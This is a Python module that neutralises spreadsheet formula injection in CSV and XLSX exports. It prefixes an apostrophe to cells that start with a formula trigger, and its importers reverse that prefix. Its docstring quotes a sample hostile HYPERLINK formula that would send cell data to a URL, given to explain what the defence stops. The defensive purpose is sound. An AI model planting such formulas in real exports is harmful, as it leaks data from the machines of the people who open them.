"""Spreadsheet cells that cannot run: one neutraliser for every CSV and XLSX export.

A spreadsheet treats a cell beginning with ``= + - @`` (or tab / carriage return, which some
programs skip before looking) as a formula, so a partner's designation such as
``=HYPERLINK("http://…"&A1,"x")`` would run on the analyst's machine. OWASP's advice is to prefix
such cells with an apostrophe, which spreadsheets show as text. Plain numbers (``-33.5``) are
left alone. Our importers undo the prefix (`unneutralise`), so an export re-imports unchanged.
"""

from __future__ import annotations

import re
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """The cell as it may safely leave: a text starting with a formula trigger gets a leading
    apostrophe; numbers, None and other text pass unchanged."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def unneutralise(text: str) -> str:
    """Undo `neutralise` on an imported cell: ``'=x`` → ``=x`` (only before a trigger)."""
    if len(text) > 1 and text[0] == "'" and text[1] in "=+-@\t\r":
        return text[1:]
    return text


def neutralise_row(row: dict[str, Any]) -> dict[str, Any]:
    return {k: neutralise(v) for k, v in row.items()}
